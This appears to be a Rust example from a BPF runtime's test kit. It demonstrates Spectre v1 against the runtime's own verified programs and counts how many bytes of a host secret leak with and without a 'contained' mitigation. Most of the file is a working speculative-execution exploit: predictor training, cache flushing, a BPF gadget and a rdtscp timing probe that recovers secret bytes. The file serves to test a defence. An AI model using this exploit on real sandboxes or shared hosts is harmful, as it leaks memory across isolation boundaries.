//! Spectre v1, measured: a verified program is trained, its bound is flushed from the caches, and it is given an
//! index whose byte is a secret of the host. Which line of a table it has read shows by the time of reading each.
//!
//! `cargo run --release -p bpf-testkit --example spectre` prints how many of the secret's bytes were found, without
//! `contained` and with it. It needs x86-64 with `clflush` and `rdtscp`, and a machine that is not too busy; where
//! it finds nothing without `contained`, it says nothing. `tests/whole/speculated.rs` asks a model instead of the
//! machine.

#[cfg(target_arch = "x86_64")]
mod x64 {
    use bpf_isa::assemble;
    use bpf_runtime::maps::{Map, MapDef, MapType};
    use bpf_runtime::{Config, Engine, Linker, OptLevel, Program, Raw};
    use core::arch::x86_64::{__rdtscp, _mm_clflush, _mm_lfence, _mm_mfence};

    const SECRET: &[u8; 16] = b"not the program.";
    /// Bytes between the places of the table that two values lead to: a page and a line, so that no prefetcher helps.
    const APART: usize = 4096 + 64;
    /// Values of the bytes 0 to 127.
    const LINES: usize = 128;
    /// Tries for each byte.
    const TRIES: usize = 400;

    /// The bound is in the first map, the array in the second, and the table in the third.
    fn text() -> String {
        format!(
            "r0 = 0\nif r2 < 8 goto out\nr7 = *(u64 *)(r1 + 0)\nr6 = map[fd:0][0]+0\nr8 = *(u64 *)(r6 + 0)\n\
             if r8 > 16 goto out\nif r7 >= r8 goto out\nr4 = map[fd:1][0]+0\nr4 += r7\nr0 = *(u8 *)(r4 + 0)\n\
             r0 &= {}\nr0 *= {APART}\nr4 = map[fd:2][0]+0\nr4 += r0\nr0 = *(u8 *)(r4 + 0)\nout: exit",
            LINES - 1
        )
    }

    /// Removes the line of this byte from all caches.
    fn flush(byte: &u8) {
        // SAFETY: the reference is to memory.
        unsafe { _mm_clflush(byte) };
    }

    fn fence() {
        // SAFETY: every x86-64 processor has SSE2.
        unsafe { _mm_mfence() };
        // SAFETY: every x86-64 processor has SSE2.
        unsafe { _mm_lfence() };
    }

    fn now() -> u64 {
        let mut core = 0;
        // SAFETY: `core` is writable; the processors with `clflush` that programs run on have `rdtscp`.
        let time = unsafe { __rdtscp(&raw mut core) };
        fence();
        time
    }

    /// Cycles of reading this byte.
    fn time(byte: &u8) -> u64 {
        fence();
        let before = now();
        // SAFETY: the reference is to readable memory.
        unsafe { std::ptr::from_ref(byte).read_volatile() };
        now() - before
    }

    fn value(map: &Map, bytes: usize) -> &[u8] {
        let base = map.header().base.cast_const();
        // SAFETY: the only value of an array of one element of so many bytes, which the map keeps; programs read it
        // only.
        unsafe { std::slice::from_raw_parts(base, bytes) }
    }

    /// The byte at this distance from the array, as the caches show it.
    fn steal(program: &Program<Raw, ()>, bound: &[u8], table: &[u8], distance: u64) -> Option<u8> {
        let (mut hits, mut noise) = ([0u32; LINES], 0x9e37_79b9u64);
        time(&table[0]);
        let limit = (time(&table[0]) + {
            flush(&table[0]);
            fence();
            time(&table[0])
        }) / 2;
        for i in 0..TRIES {
            // Most runs are in bounds, so the branch is predicted to be; no pattern shows which are not.
            noise = noise.wrapping_mul(0x5851_f42d_4c95_7f2d).wrapping_add(0x1405_7b7e_f767_814f);
            let turns = 20 + (noise >> 60);
            for turn in 0..=turns {
                // Without a branch that would tell the predictor.
                let attack = u64::from(turn == turns).wrapping_neg();
                let index = distance & attack | turn & 7 & !attack;
                if turn == turns {
                    (0..LINES).for_each(|line| flush(&table[line * APART]));
                }
                flush(&bound[0]);
                fence();
                let _ = program.run(&mut (), &mut index.to_le_bytes());
            }
            for n in 0..LINES {
                let line = (n * 67 + i) % LINES;
                hits[line] += u32::from(time(&table[line * APART]) < limit);
            }
        }
        let best = (1..LINES).max_by_key(|line| hits[*line])?;
        (hits[best] as usize > TRIES / 20).then_some(best as u8)
    }

    pub(crate) fn main() {
        let engine = Engine::new(Config::new().opt_level(OptLevel::Speed)).expect("an engine");
        let create = |name, bytes: usize| {
            let def = MapDef::new(name, MapType::Array, 4, u32::try_from(bytes).expect("few bytes"), 1);
            Map::create(def, engine.domain()).expect("a map")
        };
        let (bound, array, table) = (create("bound", 4096), create("array", 4096), create("table", LINES * APART));
        let mut first = vec![0; 4096];
        first[0] = 16;
        bound.update(&[0; 4], &first, 0).expect("a bound");
        array.update(&[0; 4], &[0; 4096], 0).expect("zeros");
        table.update(&[0; 4], &vec![1; LINES * APART], 0).expect("a table of pages that exist");
        let linker = Linker::<()>::new(&engine);
        let secret = SECRET.to_vec();
        for contained in [false, true] {
            let loader = linker.loader::<Raw>().maps(&[&bound, &array, &table]);
            let loader = loader.contained(contained);
            let program = loader.insns("gadget", assemble(&text()).expect("it assembles")).expect("it is verified");
            let start = array.header().base.addr() as u64;
            let bytes = secret.iter().map(|byte| {
                let distance = (std::ptr::from_ref(byte).addr() as u64).wrapping_sub(start);
                let _keep_cached = time(byte);
                steal(&program, value(&bound, 8), value(&table, LINES * APART), distance)
            });
            let found: Vec<Option<u8>> = bytes.collect();
            let right = found.iter().zip(&secret).filter(|(found, byte)| **found == Some(**byte)).count();
            let text: String = found.iter().map(|byte| byte.map_or('?', char::from)).collect();
            println!("contained {contained}: {right} of {} bytes of the secret: {text:?}", secret.len());
        }
    }
}

fn main() {
    #[cfg(target_arch = "x86_64")]
    x64::main();
    #[cfg(not(target_arch = "x86_64"))]
    println!("the measurement needs x86-64");
}
